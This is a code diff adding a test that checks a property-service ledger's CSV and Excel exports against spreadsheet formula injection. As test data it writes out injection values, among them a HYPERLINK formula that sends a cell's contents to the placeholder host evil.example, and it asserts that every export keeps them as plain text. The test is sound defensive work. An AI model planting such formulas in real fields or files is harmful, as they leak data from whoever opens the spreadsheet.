@@ -141,3 +141,53 @@ def test_ledger_page_filters_and_links_exports(client, demo):
     assert f"共 {count} 条回访记录" in response.text
     assert "/ledger.csv?estate=YGHY&amp;period=2026-05" in response.text
     assert "上门回访</td>" not in response.text
+
+
+def test_exports_never_turn_text_into_formulas(client, demo):
+    """CSV injection: text from Odoo, imports or residents stays text in every export."""
+    evil_title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    client.post(
+        "/api/v1/jobs",
+        json={
+            "ref": "EVIL-1",
+            "estate": "YGHY",
+            "title": evil_title,
+            "worker": "@SUM(1+1)",
+            "completed_at": "2026-05-18T10:00:00+08:00",
+        },
+    )
+    created = client.post(
+        "/api/v1/jobs/EVIL-1/callbacks",
+        json={
+            "role": "manager",
+            "staff": "+cmd",
+            "channel": "phone",
+            "done_at": "2026-05-19T10:00:00+08:00",
+            "service_feedback": "=1+1",
+            "problems": "-2+3",
+            "satisfaction": "unsatisfied",
+        },
+    )
+    assert created.status_code == 201, created.text
+    sign_in(client, "wang.yghy")
+    xlsx = client.get("/ledger.xlsx", params={"period": "2026-05"})
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert any(c.value == evil_title for c in cells)  # the exact text, kept
+    assert all(c.data_type != "f" for c in cells)
+    table = list(
+        csv.reader(
+            io.StringIO(
+                client.get("/ledger.csv", params={"period": "2026-05"}).content.decode("utf-8-sig")
+            )
+        )
+    )
+    flat = [v for row in table[1:] for v in row]
+    assert "'" + evil_title in flat and "'@SUM(1+1)" in flat and "'-2+3" in flat
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in flat)
+    report = client.get("/dashboard/report", params={"period": "2026-05", "format": "xlsx"})
+    book = load_workbook(io.BytesIO(report.content))
+    assert all(c.data_type != "f" for ws in book for row in ws.iter_rows() for c in row)
+    report_csv = client.get("/dashboard/report", params={"period": "2026-05", "format": "csv"})
+    lines = list(csv.reader(io.StringIO(report_csv.content.decode("utf-8-sig"))))
+    assert not any(v.startswith(("=", "+", "@")) for row in lines for v in row)
